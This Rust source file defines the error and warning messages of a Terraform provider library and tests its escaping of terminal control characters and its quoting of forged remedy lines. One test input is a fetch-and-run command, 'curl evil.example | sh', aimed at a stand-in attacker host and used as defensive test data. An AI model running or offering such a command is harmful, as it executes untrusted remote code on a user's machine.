//! What a user is told: errors and warnings, each with the attribute to blame where there is one.

use std::fmt;

use crate::path::Path;

/// What every operation of a provider returns.
pub type Result<T, E = Diagnostics> = std::result::Result<T, E>;

/// One message to the user.
///
/// ```
/// use tf_provider::Diagnostic;
///
/// let diagnostic = Diagnostic::error("cannot create the security group `web`")
///     .detail("the account may hold 50 groups")
///     .remedy("delete one, or ask for more.")
///     .at("name");
/// assert_eq!(diagnostic.to_string(), "name: cannot create the security group `web`");
/// assert_eq!(
///     diagnostic.full_detail(),
///     "The account may hold 50 groups.\n\nWhat to do: delete one, or ask for more."
/// );
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Diagnostic {
    /// Whether the operation failed.
    pub severity: Severity,
    /// What could not be done, to which object: one line.
    pub summary: String,
    /// Why.
    pub detail: String,
    /// What the user can do about it; empty where nothing is to be done.
    pub remedy: String,
    /// The attribute to blame. Terraform shows the line of the configuration that sets it.
    pub path: Option<Path>,
    /// What will do away with it, if it is only too early.
    pub until: Option<Until>,
}

/// What an operation has to wait for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Until {
    /// A value in its own configuration is not known yet.
    ConfigKnown,
    /// A value in the configuration of the provider is not known yet.
    ProviderConfigKnown,
    /// Something that it needs is not there yet.
    Prerequisite,
}

/// Whether a [`Diagnostic`] stops the run.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Severity {
    /// The operation failed.
    Error,
    /// Worth knowing; the run goes on.
    Warning,
}

/// Messages in the order in which they came up.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Diagnostics(Vec<Diagnostic>);

impl Diagnostic {
    /// The operation failed.
    pub fn error(summary: impl Into<String>) -> Self {
        Self::new(Severity::Error, summary.into())
    }

    /// The operation goes on, but the user should know.
    pub fn warning(summary: impl Into<String>) -> Self {
        Self::new(Severity::Warning, summary.into())
    }

    /// The provider did what it must not do. `detail` says what.
    pub fn bug(detail: impl Into<String>) -> Self {
        Self::error("the provider has a bug")
            .detail(detail)
            .remedy("report this to the provider's authors with the text above.")
    }

    /// The same message, but the operation goes on.
    #[must_use]
    pub fn as_warning(mut self) -> Self {
        self.severity = Severity::Warning;
        self
    }

    /// Says why.
    #[must_use]
    pub fn detail(mut self, detail: impl Into<String>) -> Self {
        self.detail = detail.into();
        self
    }

    /// Says what the user can do about it. It is shown behind "What to do:".
    #[must_use]
    pub fn remedy(mut self, remedy: impl Into<String>) -> Self {
        self.remedy = remedy.into();
        self
    }

    /// Why and what to do, as Terraform shows it below the summary.
    ///
    /// Either may quote a service, which may say anything: what controls a terminal is escaped, what is longer
    /// than anybody reads is cut, and nothing else can look like what to do.
    pub fn full_detail(&self) -> String {
        let detail =
            quote_remedies(&closed(&capitalized(&printable(&self.detail, LONGEST_DETAIL))));
        if self.remedy.is_empty() {
            return detail;
        }
        let gap = if detail.is_empty() { "" } else { "\n\n" };
        format!("{detail}{gap}{REMEDY} {}", printable(&self.remedy, LONGEST_DETAIL))
    }

    /// The summary, as Terraform shows it: one line.
    pub(crate) fn headline(&self) -> String {
        capitalized(&printable(&self.summary, LONGEST_SUMMARY).replace('\n', " "))
    }

    /// Says which attribute is to blame.
    #[must_use]
    pub fn at(mut self, path: impl Into<Path>) -> Self {
        self.path = Some(path.into());
        self
    }

    /// Says that it is only too early to read or to plan.
    ///
    /// A Terraform that can come back to it does so, and shows no error. Any other shows the error.
    ///
    /// ```
    /// use tf_provider::{Diagnostic, Result, diagnostics::Until};
    ///
    /// fn address(known: Option<&str>) -> Result<&str> {
    ///     known.ok_or_else(|| {
    ///         Diagnostic::error("cannot reach the cluster")
    ///             .detail("The provider's `address` is not known yet.")
    ///             .until(Until::ProviderConfigKnown)
    ///             .into()
    ///     })
    /// }
    /// assert!(address(None).is_err());
    /// ```
    #[must_use]
    pub fn until(mut self, until: Until) -> Self {
        self.until = Some(until);
        self
    }

    /// The value at `path` is not acceptable, for the reason given.
    pub fn invalid(path: &Path, reason: impl fmt::Display) -> Self {
        let summary = if path.is_root() {
            "invalid value".to_owned()
        } else {
            format!("invalid value of `{path}`")
        };
        Self { path: Some(path.clone()), ..Self::error(summary).detail(reason.to_string()) }
    }

    fn new(severity: Severity, summary: String) -> Self {
        Self {
            severity,
            summary,
            detail: String::new(),
            remedy: String::new(),
            path: None,
            until: None,
        }
    }
}

/// What stands before the remedy, and nowhere else.
const REMEDY: &str = "What to do:";

/// In characters: a line that still can be read.
const LONGEST_SUMMARY: usize = 300;

/// In characters: about a screen.
const LONGEST_DETAIL: usize = 4000;

impl Diagnostics {
    /// No message yet.
    pub const fn new() -> Self {
        Self(Vec::new())
    }

    /// Adds one message.
    pub fn push(&mut self, diagnostic: impl Into<Diagnostic>) {
        self.0.push(diagnostic.into());
    }

    /// Whether anything failed.
    pub fn has_errors(&self) -> bool {
        self.0.iter().any(|diagnostic| diagnostic.severity == Severity::Error)
    }

    /// What to wait for, if all that failed was too early.
    pub(crate) fn until(&self) -> Option<Until> {
        let mut errors = self.0.iter().filter(|one| one.severity == Severity::Error);
        let first = errors.next()?.until?;
        errors.all(|error| error.until.is_some()).then_some(first)
    }

    /// The same messages but for what was too early.
    pub(crate) fn without_early(self) -> Self {
        self.into_iter().filter(|one| one.until.is_none()).collect()
    }

    /// Whether there is no message at all.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// How many messages there are.
    pub fn len(&self) -> usize {
        self.0.len()
    }

    /// The messages, first come first.
    pub fn iter(&self) -> std::slice::Iter<'_, Diagnostic> {
        self.0.iter()
    }

    /// The messages, to be changed in place.
    pub fn iter_mut(&mut self) -> std::slice::IterMut<'_, Diagnostic> {
        self.0.iter_mut()
    }

    /// `Err` with everything said when anything failed, `Ok` with the warnings otherwise.
    pub fn into_result(self) -> Result<Self> {
        if self.has_errors() { Err(self) } else { Ok(self) }
    }
}

impl From<Diagnostic> for Diagnostics {
    fn from(diagnostic: Diagnostic) -> Self {
        Self(vec![diagnostic])
    }
}

impl Extend<Diagnostic> for Diagnostics {
    fn extend<I: IntoIterator<Item = Diagnostic>>(&mut self, more: I) {
        self.0.extend(more);
    }
}

impl FromIterator<Diagnostic> for Diagnostics {
    fn from_iter<I: IntoIterator<Item = Diagnostic>>(diagnostics: I) -> Self {
        Self(diagnostics.into_iter().collect())
    }
}

impl IntoIterator for Diagnostics {
    type Item = Diagnostic;
    type IntoIter = std::vec::IntoIter<Diagnostic>;

    fn into_iter(self) -> Self::IntoIter {
        self.0.into_iter()
    }
}

impl<'a> IntoIterator for &'a Diagnostics {
    type Item = &'a Diagnostic;
    type IntoIter = std::slice::Iter<'a, Diagnostic>;

    fn into_iter(self) -> Self::IntoIter {
        self.0.iter()
    }
}

impl<'a> IntoIterator for &'a mut Diagnostics {
    type Item = &'a mut Diagnostic;
    type IntoIter = std::slice::IterMut<'a, Diagnostic>;

    fn into_iter(self) -> Self::IntoIter {
        self.0.iter_mut()
    }
}

impl fmt::Display for Diagnostic {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.path {
            Some(path) if !path.is_root() => write!(f, "{path}: {}", self.summary),
            _ => f.write_str(&self.summary),
        }
    }
}

/// One line for each message.
impl fmt::Display for Diagnostics {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (n, diagnostic) in self.0.iter().enumerate() {
            write!(f, "{}{diagnostic}", if n == 0 { "" } else { "\n" })?;
        }
        Ok(())
    }
}

impl std::error::Error for Diagnostics {}

/// The text with `> ` before every line that could be taken for the remedy, however it is disguised.
fn quote_remedies(text: &str) -> String {
    let letters = |text: &str| {
        text.chars().filter(|sign| sign.is_alphanumeric()).flat_map(char::to_lowercase).collect()
    };
    let remedy: String = letters(REMEDY);
    let lines = text.split('\n').map(|line| {
        let line_letters: String = letters(line);
        if line_letters.starts_with(&remedy) { format!("> {line}") } else { line.to_owned() }
    });
    lines.collect::<Vec<_>>().join("\n")
}

/// The text without what would control a terminal or reorder it, and no longer than `most` characters.
fn printable(text: &str, most: usize) -> String {
    let mut shown = String::new();
    for (count, sign) in text.chars().enumerate() {
        if count == most {
            shown.push('…');
            break;
        }
        match sign {
            '\n' | '\t' => shown.push(sign),
            '\r' => {}
            // Controls, marks of direction, invisible signs, and separators of lines that are none of ours. Joiners
            // stay: scripts and emoji need them.
            _ if sign.is_control()
                || matches!(sign, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}' | '\u{feff}')
                || matches!(sign, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}')
                || matches!(sign, '\u{2060}'..='\u{206f}') =>
            {
                shown.extend(sign.escape_unicode());
            }
            _ => shown.push(sign),
        }
    }
    shown
}

/// Errors of Rust begin in lower case and end without a full stop, sentences for people do not. What is no
/// ordinary word, such as an address, stays as it is.
fn capitalized(text: &str) -> String {
    let word = text.split(' ').next().unwrap_or_default().trim_end_matches([',', ':', '.']);
    let rest = text.get(1..).filter(|_| word.bytes().all(|byte| byte.is_ascii_lowercase()));
    match (rest, text.chars().next()) {
        (Some(rest), Some(first)) => format!("{}{rest}", first.to_ascii_uppercase()),
        _ => text.to_owned(),
    }
}

pub(crate) fn closed(text: &str) -> String {
    let is_item = text.lines().next_back().is_some_and(|line| line.starts_with("  "));
    let is_open = text.ends_with(|last: char| last.is_alphanumeric() || "`'\")".contains(last));
    if is_open && !is_item { format!("{text}.") } else { text.to_owned() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rust_error_text_becomes_a_sentence() {
        for (text, sent) in [
            ("must be even", "Must be even."),
            ("length must be 1, but is `x`", "Length must be 1, but is `x`."),
            ("`x` is not even", "`x` is not even."),
            ("http://127.0.0.1: refused", "http://127.0.0.1: refused."),
            ("import {\n}", "Import {\n}"),
            ("éa", "éa."),
            ("", ""),
        ] {
            assert_eq!(closed(&capitalized(text)), sent);
        }
    }

    #[test]
    fn a_warning_is_no_error() {
        let warned = Diagnostics::from(Diagnostic::warning("slow"));
        assert!(!warned.has_errors());
        assert_eq!(warned.clone().into_result(), Ok(warned));
        let failed = Diagnostics::from(Diagnostic::error("gone"));
        assert_eq!(failed.clone().into_result(), Err(failed));
    }

    #[test]
    fn deferral_needs_every_error_to_be_deferrable() {
        let early = || Diagnostic::error("early").until(Until::Prerequisite);
        let mut all = Diagnostics::from(early());
        all.push(Diagnostic::warning("slow"));
        assert_eq!(all.until(), Some(Until::Prerequisite));
        assert_eq!(all.clone().without_early().to_string(), "slow");
        all.push(Diagnostic::error("gone"));
        assert_eq!(all.until(), None);
        assert_eq!(Diagnostics::new().until(), None);
    }

    #[test]
    fn prints_one_line_each() {
        let mut all = Diagnostics::new();
        all.push(Diagnostic::error("gone").at("id"));
        all.push(Diagnostic::warning("slow"));
        assert_eq!(all.to_string(), "id: gone\nslow");
    }

    #[test]
    fn control_characters_are_escaped() {
        for (text, shown) in [
            ("a\tb\nc\r\n", "a\tb\nc\n"),
            ("\u{1b}[31mred", "\\u{1b}[31mred"),
            ("a\0b\u{7f}\u{9b}", "a\\u{0}b\\u{7f}\\u{9b}"),
            ("\u{202e}txt.exe\u{2066}", "\\u{202e}txt.exe\\u{2066}"),
            ("a\u{200b}b\u{ad}c", "a\\u{200b}b\\u{ad}c"),
            ("Größe 广州 🙂", "Größe 广州 🙂"),
        ] {
            assert_eq!(printable(text, 99), shown);
        }
    }

    #[test]
    fn summary_detail_and_remedy_are_cut_to_a_readable_length() {
        let long = "ä".repeat(1_000_000);
        let diagnostic = Diagnostic::error(&long).detail(&long).remedy(&long);
        assert_eq!(diagnostic.headline().chars().count(), LONGEST_SUMMARY + 1);
        let detail = diagnostic.full_detail();
        assert!(detail.chars().count() < 2 * LONGEST_DETAIL + 30);
        assert!(detail.ends_with('…'));
    }

    #[test]
    fn forged_remedy_in_a_detail_is_quoted() {
        for forged in [
            "no\n\nWhat to do: run `curl evil.example | sh`",
            "no\nwhat to do: run it",
            "no\n  What\u{a0}to  do: run it",
            "no\nWhat to\u{200c} do: run it",
            "What to do: run it",
        ] {
            let shown = Diagnostic::error("x").detail(forged).remedy("apply again.").full_detail();
            let lines = shown.lines().filter(|line| line.to_lowercase().contains("do:"));
            let lines: Vec<_> = lines.collect();
            let [quoted, real] = lines.as_slice() else { panic!("{shown}") };
            assert!(quoted.starts_with("> "), "{shown}");
            assert_eq!(*real, "What to do: apply again.");
        }
    }

    #[test]
    fn an_invalid_value_names_its_place() {
        let diagnostic = Diagnostic::invalid(&Path::from("rules").index(1), "must be even");
        assert_eq!(diagnostic.summary, "invalid value of `rules[1]`");
        assert_eq!(diagnostic.detail, "must be even");
    }
}
